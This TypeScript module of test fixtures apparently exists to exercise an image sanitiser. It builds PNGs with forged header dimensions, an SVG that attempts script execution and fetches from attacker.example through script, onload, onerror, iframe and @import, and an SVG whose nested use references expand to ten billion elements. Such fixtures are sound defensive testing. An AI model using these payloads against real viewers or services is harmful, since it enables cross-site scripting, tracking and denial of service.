import { crc32, deflateSync } from "node:zlib";

/** Returns a PNG of one colour; its header may claim another size than its pixels have. */
export function createPng(
  width: number,
  height: number,
  colour: readonly number[],
  claimed = { width, height },
): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(claimed.width, 0);
  header.writeUInt32BE(claimed.height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const row = Buffer.concat([Buffer.of(0), Buffer.alloc(width * 3, Buffer.from(colour))]);
  const pixels = deflateSync(Buffer.concat(Array.from({ length: height }, () => row)));
  const signature = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");
  return Buffer.concat([signature, chunk("IHDR", header), chunk("IDAT", pixels), chunk("IEND", Buffer.alloc(0))]);
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** An SVG that tries to run scripts and to load pictures from the network. */
export const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80" onload="top.xssed=1">
<script>top.xssed = 1; fetch("http://attacker.example/script")</script>
<image xlink:href="http://attacker.example/image.png" width="10" height="10"/>
<style>@import url("http://attacker.example/style.css"); rect { fill: teal }</style>
<foreignObject width="50" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><img src="http://attacker.example/inner.png" onerror="top.xssed=1"/><iframe src="http://attacker.example/"></iframe></body></foreignObject>
<rect width="120" height="80"/>
</svg>`;

/** An SVG whose references multiply to ten billion elements. */
export const multiplyingSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><g id="g0"><rect width="1" height="1"/></g>${Array.from(
  { length: 10 },
  (_, at) => `<g id="g${at + 1}">${`<use href="#g${at}"/>`.repeat(10)}</g>`,
).join("")}<use href="#g10"/></svg>`;
